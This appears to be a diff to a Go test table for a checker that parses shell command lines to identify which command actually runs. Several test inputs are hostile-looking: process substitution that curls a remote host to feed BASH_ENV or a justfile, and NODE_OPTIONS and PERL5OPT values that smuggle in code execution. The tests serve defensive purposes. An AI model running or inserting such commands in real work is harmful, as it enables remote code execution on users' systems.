@@ -113,7 +113,9 @@ func TestSettings(t *testing.T) {
 		{"PYTHONPATH=/opt/x:$PYTHONPATH python3 -m app", "python3", []string{"/opt/x/", "app.py", "app/"}, nil, false},
 		{"BASH_ENV=<(curl -s https://x.example.net/e) bash -c true", "", nil, nil, true},
 		{"just --justfile <(curl -s https://x.example.net/justfile) default", "just", []string{"<(curl -s https://x.example.net/justfile)"}, nil, true},
-		{`NODE_OPTIONS="--import=data:text/javascript,import('child_process').then(c=>c.execSync('id'))" npm run build`, "", nil, nil, true},
+		// A dynamic import's module is bound as a require's: execSync('id') is the command id.
+		{`NODE_OPTIONS="--import=data:text/javascript,import('child_process').then(c=>c.execSync('id'))" npm run build`, "id", nil, nil, false},
+		{`NODE_OPTIONS="--import=data:text/javascript,import('child_process').then(c=>c.execSync(process.argv[2]))" npm run build`, "", nil, nil, true},
 		// -MMod;CODE is read as perl code: system("id") is the command id.
 		{"PERL5OPT='-Mstrict;system(\"id\")' perl x.pl", "id", nil, nil, false},
 		{"PERL5OPT='-Mstrict;system($ARGV[0])' perl x.pl", "", nil, nil, true},
